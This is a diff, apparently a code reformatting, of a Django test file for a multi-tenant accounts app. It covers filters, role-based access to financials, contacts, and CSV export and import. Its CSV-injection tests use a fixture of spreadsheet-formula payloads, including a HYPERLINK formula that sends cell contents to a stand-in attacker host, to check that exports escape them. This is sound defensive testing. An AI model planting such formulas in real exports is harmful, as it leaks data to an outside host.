@@ -29,6 +29,7 @@ def _queries(client, url, **extra):
 
 # --- List -----------------------------------------------------------------------------------------
 
+
 def test_list_filters_live_in_the_url_and_work_without_javascript(manager_a):
     AccountFactory(tenant=manager_a.tenant, name="Strategic One", classification="strategic")
     AccountFactory(tenant=manager_a.tenant, name="Tactical One", classification="tactical")
@@ -48,7 +49,9 @@ def test_htmx_gets_only_the_results(manager_a):
     assert body.lstrip().startswith('<div id="results"')
     assert "<html" not in body and "Searchable Corp" in body and "Other Ltd" not in body
     assert 'hx-swap-oob="outerHTML"' in body  # keeps the sort box in step with a clicked column
-    restore = manager_a.client.get(manager_a.url("accounts/?q=searcha"), HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
+    restore = manager_a.client.get(
+        manager_a.url("accounts/?q=searcha"), HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true"
+    )
     assert b"<html" in restore.content
 
 
@@ -75,7 +78,9 @@ def test_list_sort_and_pagination_links_keep_the_filters(manager_a):
 def test_list_query_count_does_not_grow_with_accounts(manager_a, query):
     def make(n, start):
         for i in range(start, start + n):
-            AccountFactory(tenant=manager_a.tenant, name=f"Acc {i:03d}", classification="tactical", owner=manager_a.user)
+            AccountFactory(
+                tenant=manager_a.tenant, name=f"Acc {i:03d}", classification="tactical", owner=manager_a.user
+            )
 
     few = 30 if query == "?page=2" else 5  # page 2 has rows in both cases
     make(few, 0)
@@ -93,6 +98,7 @@ def test_list_query_count_does_not_grow_with_accounts(manager_a, query):
 
 
 # --- Detail and tabs --------------------------------------------------------------------------------
+
 
 def _account_with(tenant, n, owner=None):
     account = AccountFactory(tenant=tenant, owner=owner)
@@ -131,10 +137,16 @@ def test_org_chart_shows_the_tree_and_people_who_left(manager_a):
     assert 'class="acc-gone"' in chart and "left Mar 2025" in chart
 
 
-@pytest.mark.parametrize("role, on_team, sees", [
-    (Role.ADMIN, False, True), (Role.EXECUTIVE, False, True), (Role.MANAGER, True, True),
-    (Role.MANAGER, False, False), (Role.VIEWER, False, False),
-])
+@pytest.mark.parametrize(
+    "role, on_team, sees",
+    [
+        (Role.ADMIN, False, True),
+        (Role.EXECUTIVE, False, True),
+        (Role.MANAGER, True, True),
+        (Role.MANAGER, False, False),
+        (Role.VIEWER, False, False),
+    ],
+)
 def test_financials_only_for_admins_executives_and_the_team(tenant_a, make_member, role, on_team, sees):
     member = make_member(tenant_a, role)
     account = AccountFactory(tenant=tenant_a)
@@ -156,7 +168,9 @@ def test_financial_period_form_and_delete_follow_the_rule(manager_a, make_member
     outsider = make_member(manager_a.tenant, Role.MANAGER)
     data = {"period_start": "2026-01-01", "period_end": "2026-03-31", "revenue": "1000", "currency": "EUR"}
     assert outsider.client.post(outsider.url(f"accounts/{account.pk}/financials/"), data).status_code == 404
-    bad = manager_a.client.post(manager_a.url(f"accounts/{account.pk}/financials/"), {**data, "period_end": "2025-12-31"})
+    bad = manager_a.client.post(
+        manager_a.url(f"accounts/{account.pk}/financials/"), {**data, "period_end": "2025-12-31"}
+    )
     assert bad.status_code == 400 and b"The period cannot end before it starts." in bad.content
     ok = manager_a.client.post(manager_a.url(f"accounts/{account.pk}/financials/"), data)
     assert ok.status_code == 302
@@ -170,22 +184,43 @@ def test_financial_period_form_and_delete_follow_the_rule(manager_a, make_member
 
 # --- Create, edit, classify, delete -------------------------------------------------------------------
 
+
 def test_create_with_clear_validation_messages(manager_a):
     AccountFactory(tenant=manager_a.tenant, external_id="TAKEN", name="First")
     url = manager_a.url("accounts/new/")
     assert manager_a.client.get(url).status_code == 200
-    response = manager_a.client.post(url, {"name": "", "external_id": "TAKEN", "status": "prospect", "classification": "strategic"})
+    response = manager_a.client.post(
+        url, {"name": "", "external_id": "TAKEN", "status": "prospect", "classification": "strategic"}
+    )
     body = response.content.decode()
     assert response.status_code == 400
     assert "This field is required." in body and "Say why this account is strategic." in body
-    response = manager_a.client.post(url, {"name": "Second", "external_id": "TAKEN", "status": "prospect", "classification": "unqualified"})
-    assert response.status_code == 400 and "External id &#x27;TAKEN&#x27; is already used by “First”." in response.content.decode()
-    response = manager_a.client.post(url, {"name": "Second", "external_id": "NEW", "status": "customer", "classification": "strategic",
-                                           "classification_reason": "Opens the Nordic market", "owner": manager_a.user.pk})
+    response = manager_a.client.post(
+        url, {"name": "Second", "external_id": "TAKEN", "status": "prospect", "classification": "unqualified"}
+    )
+    assert (
+        response.status_code == 400
+        and "External id &#x27;TAKEN&#x27; is already used by “First”." in response.content.decode()
+    )
+    response = manager_a.client.post(
+        url,
+        {
+            "name": "Second",
+            "external_id": "NEW",
+            "status": "customer",
+            "classification": "strategic",
+            "classification_reason": "Opens the Nordic market",
+            "owner": manager_a.user.pk,
+        },
+    )
     assert response.status_code == 302
     with manager_a.scope():
         account = Account.objects.get(external_id="NEW")
-        assert (account.classification, account.owner_id, account.status) == ("strategic", manager_a.user.pk, "customer")
+        assert (account.classification, account.owner_id, account.status) == (
+            "strategic",
+            manager_a.user.pk,
+            "customer",
+        )
         assert ClassificationChange.objects.filter(account=account).count() == 1
 
 
@@ -206,9 +241,14 @@ def test_edit_and_delete(manager_a):
     account = AccountFactory(tenant=manager_a.tenant, name="Before", external_id="E-1")
     ContactFactory(account=account)
     url = manager_a.url(f"accounts/{account.pk}/edit/")
-    response = manager_a.client.post(url, {"name": "After", "external_id": "E-1", "status": "customer", "potential_level": "7"})
-    assert response.status_code == 400 and (b"The potential level must be from 1 to 5: the active hierarchy model has "
-                                            b"5 levels (got 7).") in response.content
+    response = manager_a.client.post(
+        url, {"name": "After", "external_id": "E-1", "status": "customer", "potential_level": "7"}
+    )
+    assert (
+        response.status_code == 400
+        and (b"The potential level must be from 1 to 5: the active hierarchy model has 5 levels (got 7).")
+        in response.content
+    )
     assert manager_a.client.post(url, {"name": "After", "external_id": "E-1", "status": "customer"}).status_code == 302
     with manager_a.scope():
         assert Account.objects.get(pk=account.pk).name == "After"
@@ -217,8 +257,17 @@ def test_edit_and_delete(manager_a):
         assert not Account.objects.exists() and not Contact.objects.exists()
 
 
-@pytest.mark.parametrize("path", ["accounts/new/", "accounts/{id}/edit/", "accounts/{id}/classify/", "accounts/{id}/delete/",
-                                  "accounts/{id}/contacts/new/", "accounts/import/"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "accounts/new/",
+        "accounts/{id}/edit/",
+        "accounts/{id}/classify/",
+        "accounts/{id}/delete/",
+        "accounts/{id}/contacts/new/",
+        "accounts/import/",
+    ],
+)
 def test_viewers_and_executives_get_403_on_editing_pages(viewer_a, executive_a, path):
     """Their own tenant's account: 403 naming the roles that can; a missing id stays 404."""
     account = AccountFactory(tenant=viewer_a.tenant)
@@ -251,6 +300,7 @@ def test_other_tenants_account_is_404_like_a_missing_one(manager_a, manager_b):
 
 # --- Contacts and team ------------------------------------------------------------------------------
 
+
 def test_contact_create_edit_leave(manager_a):
     account = AccountFactory(tenant=manager_a.tenant)
     other = ContactFactory(account=AccountFactory(tenant=manager_a.tenant))
@@ -261,11 +311,15 @@ def test_contact_create_edit_leave(manager_a):
         boss = Contact.objects.get(full_name="Boss")
     bad = manager_a.client.post(url, {"full_name": "Report", "reports_to": other.pk, "is_active": "on"})
     assert bad.status_code == 400 and b"Select a valid choice" in bad.content
-    assert manager_a.client.post(url, {"full_name": "Report", "reports_to": boss.pk, "is_active": "on"}).status_code == 302
+    assert (
+        manager_a.client.post(url, {"full_name": "Report", "reports_to": boss.pk, "is_active": "on"}).status_code == 302
+    )
     with manager_a.scope():
         report = Contact.objects.get(full_name="Report")
-    loop = manager_a.client.post(manager_a.url(f"accounts/contacts/{boss.pk}/edit/"),
-                                 {"full_name": "Boss", "reports_to": report.pk, "is_active": "on"})
+    loop = manager_a.client.post(
+        manager_a.url(f"accounts/contacts/{boss.pk}/edit/"),
+        {"full_name": "Boss", "reports_to": report.pk, "is_active": "on"},
+    )
     assert loop.status_code == 400 and "already reports (directly or not) to Boss".encode() in loop.content
     left = manager_a.client.post(manager_a.url(f"accounts/contacts/{report.pk}/leave/"), {"left_on": "2026-01-31"})
     assert left.status_code == 302
@@ -301,8 +355,10 @@ def test_a_manager_off_the_team_cannot_join_it_to_see_the_financials(manager_a, 
     assert "Add to the team" not in page and "Only the account's team or a tenant admin" in page
     refused = manager_a.client.post(url, {"user": manager_a.user.pk, "team_role": "specialist"})
     assert refused.status_code == 400 and "Only the account's team or a tenant admin" in refused.content.decode()
-    edit = manager_a.client.post(manager_a.url(f"accounts/{account.pk}/edit/"), {"name": account.name, "owner": manager_a.user.pk,
-                                                                               "status": account.status})
+    edit = manager_a.client.post(
+        manager_a.url(f"accounts/{account.pk}/edit/"),
+        {"name": account.name, "owner": manager_a.user.pk, "status": account.status},
+    )
     assert edit.status_code == 400
     assert manager_a.client.get(manager_a.url(f"accounts/{account.pk}/financials/")).status_code == 404
     with manager_a.scope():
@@ -310,6 +366,7 @@ def test_a_manager_off_the_team_cannot_join_it_to_see_the_financials(manager_a, 
 
 
 # --- Export ------------------------------------------------------------------------------------------
+
 
 def _export(member, query=""):
     response = member.client.get(member.url(f"accounts/export.csv{query}"))
@@ -325,7 +382,9 @@ def test_export_is_the_filtered_list_and_hides_financials_from_those_who_may_not
     TeamMemberFactory(account=mine, user=manager.user)
     recent = dt.date.today() - dt.timedelta(days=100)
     for account in (mine, theirs):
-        FinancialPeriodFactory(account=account, period_start=recent, period_end=recent + dt.timedelta(days=30), revenue=5000)
+        FinancialPeriodFactory(
+            account=account, period_start=recent, period_end=recent + dt.timedelta(days=30), revenue=5000
+        )
     rows = {r["name"]: r for r in _export(executive, "?classification=strategic")}
     assert set(rows) == {"Mine", "Theirs"}
     assert rows["Mine"]["revenue_last_12_months"] == "5000.00" and rows["Theirs"]["revenue_last_12_months"] == "5000.00"
@@ -337,13 +396,22 @@ def test_export_is_the_filtered_list_and_hides_financials_from_those_who_may_not
 
 
 def test_an_export_imports_back_without_changes(manager_a):
-    AccountFactory(tenant=manager_a.tenant, name="Round Trip", external_id="RT-1", owner=manager_a.user,
-                   revenue_tier="gold", potential_level=3, notes="Line one\nline two; with, punctuation")
+    AccountFactory(
+        tenant=manager_a.tenant,
+        name="Round Trip",
+        external_id="RT-1",
+        owner=manager_a.user,
+        revenue_tier="gold",
+        potential_level=3,
+        notes="Line one\nline two; with, punctuation",
+    )
     exported = manager_a.client.get(manager_a.url("accounts/export.csv")).content
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    response = manager_a.client.post(manager_a.url("accounts/import/"),
-                                     {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")})
+    response = manager_a.client.post(
+        manager_a.url("accounts/import/"),
+        {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")},
+    )
     preview = manager_a.client.get(response["Location"])
     assert b"1 unchanged" in preview.content and b"problem" not in preview.content
 
@@ -351,8 +419,12 @@ def test_an_export_imports_back_without_changes(manager_a):
 # --- CSV injection (issue 11, item 3) ---------------------------------------------------------------------
 
 FORMULAS = {
-    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "industry": "+1+1", "segment": "-2+3",
-    "notes": "@SUM(A1:A9)", "classification_reason": "\tTabbed", "external_id": "\rCR-1",
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "industry": "+1+1",
+    "segment": "-2+3",
+    "notes": "@SUM(A1:A9)",
+    "classification_reason": "\tTabbed",
+    "external_id": "\rCR-1",
 }
 
 
@@ -368,14 +440,19 @@ def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(tenant_a, 
 
 
 def test_an_escaped_export_imports_back_unchanged(manager_a):
-    AccountFactory(tenant=manager_a.tenant, owner=manager_a.user,
-                   **{**FORMULAS, "external_id": "=RT-1", "classification_reason": "-keep"})
+    AccountFactory(
+        tenant=manager_a.tenant,
+        owner=manager_a.user,
+        **{**FORMULAS, "external_id": "=RT-1", "classification_reason": "-keep"},
+    )
     exported = manager_a.client.get(manager_a.url("accounts/export.csv")).content
     assert b"'=RT-1" in exported
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    response = manager_a.client.post(manager_a.url("accounts/import/"),
-                                     {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")})
+    response = manager_a.client.post(
+        manager_a.url("accounts/import/"),
+        {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")},
+    )
     preview = manager_a.client.get(response["Location"])
     assert b"1 unchanged" in preview.content and b"problem" not in preview.content
     page = manager_a.client.get(manager_a.url("accounts/import/")).content.decode()
